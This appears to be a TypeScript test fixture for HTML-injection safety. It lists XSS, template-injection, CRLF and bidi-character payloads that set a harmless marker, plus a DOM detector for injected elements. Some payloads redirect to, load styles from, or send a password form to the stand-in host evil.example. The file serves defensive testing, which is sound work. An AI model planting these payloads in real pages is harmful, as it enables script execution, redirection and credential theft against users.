/** Sets a mark in a page when it is run. */
const RUN = 'globalThis.ranHere=1';

const invisible = (...codes: readonly number[]): string => String.fromCodePoint(...codes);

/** Texts that would run, load or mislead where a page took them for anything but text, by what they try. */
export const payloads: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  image: `<img src=x onerror="${RUN}">`,
  'end of an attribute': `"><img src=x onerror=${RUN}>`,
  'end of another attribute': `'><svg/onload=${RUN}>`,
  'event handler': `" autofocus onfocus="${RUN}" x="`,
  'end of a title': `</title></textarea></style></script><script>${RUN}</script>`,
  'end of a comment': `--><script>${RUN}</script><!--`,
  'javascript: link': `javascript:${RUN}`,
  'javascript: link, disguised': ` jAvAsCrIpT&colon;${RUN}//`,
  link: `<a id="hostile" href="javascript:${RUN}">here</a>`,
  svg: `<svg><animate onbegin=${RUN} attributeName=x dur=1s><script>${RUN}</script></svg>`,
  frame: `<iframe srcdoc="<script>parent.ranHere=1</script>"></iframe>`,
  base: `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  style: `<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=//evil.example/x>`,
  'attributes of htmx': `<div hx-get="/hostile" hx-trigger="load" hx-on::load="${RUN}" hx-vals="js:{x:${RUN}}"></div>`,
  form: `<form action="//evil.example"><input name="password" autofocus></form>`,
  'template of EJS': `<%= ${RUN} %><%- include('../../../package.json') %>`,
  'template of scripts': `\${${RUN}}{{constructor.constructor("${RUN}")()}}#{${RUN}}`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt;&#x3c;img src=x onerror=${RUN}&#x3e;`,
  'controls of direction': `${invisible(0x202e, 0x2066)}gnp.exe${invisible(0x2069, 0x202c)}`,
  'control characters': `red ${invisible(0x1b)}[31m, a bell ${invisible(7)}, NUL ${invisible(0)}, C1 ${invisible(0x9b)}31m`,
  'ends of lines': `one\r\nSet-Cookie: hostile=1\r\n\r\n<script>${RUN}</script>${invisible(0x2028, 0x2029)}`,
};

/** Names what of a page is not its own: elements and attributes that only a text can have brought. Runs in the page. */
export const strangers = `[
  ...document.querySelectorAll('img:not([src^="/assets/"]), iframe, object, embed, base, style, animate, link:not([href^="/assets/"]), script:not([src^="/assets/"])'),
  ...document.querySelectorAll('[onerror], [onload], [onfocus], [onbegin], [hx-get="/hostile"], [hx-on\\\\:\\\\:load], [name=password]:not([type=password])'),
  ...[...document.querySelectorAll('[href], [action], [src], [formaction]')].filter((element) =>
    ['href', 'action', 'src', 'formaction'].some((name) => /^\\\\s*(javascript|data|https?):/i.test(element.getAttribute(name) ?? ''))),
].map((element) => element.outerHTML.slice(0, 200))`;

/** What is not to be seen as it was given, since it changes how its neighbours are read. */
export const MISLEADING = /(?![\t\n\r])\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u;
